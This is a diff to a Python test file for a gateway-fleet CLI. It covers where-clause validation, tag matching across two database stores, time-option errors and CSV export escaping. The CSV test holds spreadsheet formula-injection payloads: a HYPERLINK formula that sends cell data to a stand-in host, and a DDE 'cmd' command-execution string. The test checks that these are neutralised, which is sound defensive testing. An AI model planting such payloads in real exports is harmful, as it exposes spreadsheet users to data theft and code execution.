@@ -11,6 +11,7 @@ import io
 import json
 import time
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -125,6 +126,13 @@ def test_where_filters_in_the_store_by_site_tag_state_version_and_id(db: str) ->
         ("state=asleep", "state is online or offline"),
         ("site", "is not KEY=VALUE"),
         ("site=a,site=b", "site is given twice"),
+        # PostgreSQL kept the last (d2), SQLite wanted both (none): the two stores disagreed
+        ("tag.district=d1,tag.district=d2", "tag.district is given twice"),
+        # an empty selection (an unset shell variable) must not mean the whole fleet
+        ("", "names no gateway field"),
+        (" , ", "names no gateway field"),
+        # a byte from a Latin-1 terminal (argv's surrogateescape): no store encodes it
+        ("site=caf\udce9", "is not UTF-8 text"),
     ],
 )
 def test_a_bad_where_clause_is_a_usage_error_naming_the_fields(
@@ -133,6 +141,37 @@ def test_a_bad_where_clause_is_a_usage_error_naming_the_fields(
     result = run("gateways", "list", "--db", db, "--where", clause)
     assert result.exit_code == 2
     assert says in result.output
+
+
+def test_fleet_cmd_with_an_empty_where_sends_nothing(db: str, tmp_path: Path) -> None:
+    """``fleet cmd --where "$SELECTION" restart`` with the variable unset restarted every
+    gateway of the fleet; it is a usage error before anything is sent."""
+    result = run("cmd", "--db", db, "--where", "", "restart", "--key", str(tmp_path / "k"))
+    assert result.exit_code == 2, result.output
+    assert "names no gateway field" in result.output
+
+
+def test_where_matches_tag_names_and_values_of_any_characters_on_both_stores(db: str) -> None:
+    """A tag name holding a quote, a dot or CJK text, and values compared as text: both
+    stores answer the same (SQLite's JSON path could not name a key with a quote, and
+    it compared a nested object's JSON text with the value where PostgreSQL does not)."""
+    tags = {'a"b': "q", "floor.no": "3", "区": "东", "nested": {"x": "1"}, "n": 3, "l": ["x"]}
+    store = open_store(db)
+    try:
+        with store.round() as rnd:
+            state = {"gw": "gw-tags", "online": True, "tags": tags}
+            rnd.update_state("gw-tags", decode_state(wire(state)))
+    finally:
+        store.close()
+
+    def where(text: str) -> list[str]:
+        return ids(ok("gateways", "list", "--db", db, "--all", "--json", "--where", text))
+
+    assert where('tag.a"b=q') == ["gw-tags"]
+    assert where("tag.floor.no=3,tag.区=东") == ["gw-tags"]
+    assert where('tag.nested={"x":"1"}') == []
+    assert where("tag.n=3") == []  # a number is not the text 3, on both stores
+    assert where("tag.l=x") == []  # nor is a list holding it
 
 
 def test_gateways_show_has_devices_and_exits_1_for_an_unknown_gateway(db: str) -> None:
@@ -206,6 +245,10 @@ def test_readings_per_bucket_from_the_rollups(db: str) -> None:
         (("--from", "yesterday"), "is not a time"),
         (("--since", "1h", "--from", "2h"), "not both"),
         (("--from", "2h", "--to", "3h"), "--to must be after"),
+        # past every calendar (9 * 400 reads as infinity): a usage error, never a traceback
+        (("--from", "9" * 20, "--bucket", "1m"), "not a time"),
+        (("--from", "9" * 400), "not a time"),
+        (("--to", "9" * 400, "--bucket", "1h"), "not a time"),
     ],
 )
 def test_bad_readings_options_are_usage_errors(db: str, extra: tuple[str, ...], says: str) -> None:
@@ -239,3 +282,41 @@ def test_retention_keeps_the_rollups_that_readings_bucket_returns(db: str) -> No
         (T0, 1, 1.0),
         (T0 + 60, 1, 2.0),
     ]
+
+
+def test_csv_never_hands_a_spreadsheet_a_formula_a_gateway_sent(store_address: str) -> None:
+    """A gateway's text (a value, a device id, a unit, a reason) that a spreadsheet would
+    run as a formula is written with a leading apostrophe; numbers, and text that is
+    only a number, are written as they are; ``rules test --replay`` reads the text back."""
+    from edge_agent.rules.series import parse_value  # noqa: PLC0415
+
+    sent = [
+        ('=HYPERLINK("http://x.invalid/?"&A1,"open")', "=cmd|'/C calc'!A0", "+1+1", None),
+        (None, "@SUM(1+1)", "-2+3", "\tx"),
+        ("-5", "dev-1", "°C", None),
+        (-3.5, "dev-1", "-", None),
+        (None, "dev-1", None, "\r=1"),
+    ]
+    readings = [
+        {"dev": dev, "pt": "p", "v": v, "u": u, "q": "good", "ts": T0 + i}
+        | ({} if r is None else {"q": "bad", "r": r, "v": None})
+        for i, (v, dev, u, r) in enumerate(sent)
+    ]
+    store = open_store(store_address)
+    try:
+        with store.round() as rnd:
+            batch = {"gw": "gw-00", "stream": "s1", "seq_first": 1, "seq_last": len(sent)}
+            rnd.insert_telemetry(decode_telemetry(wire(batch | {"readings": readings})))
+    finally:
+        store.close()
+    out = ok("readings", "--db", store_address, "--all", "--oldest-first", "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out.stdout)))
+    cells = [(r["value"], r["device"], r["unit"], r["reason"]) for r in rows]
+    assert cells == [
+        ('\'=HYPERLINK("http://x.invalid/?"&A1,"open")', "'=cmd|'/C calc'!A0", "'+1+1", ""),
+        ("", "'@SUM(1+1)", "'-2+3", "'\tx"),
+        ("-5", "dev-1", "°C", ""),
+        ("-3.5", "dev-1", "'-", ""),
+        ("", "dev-1", "", "'\r=1"),
+    ]
+    assert parse_value(cells[0][0], carries_text=True) == sent[0][0]
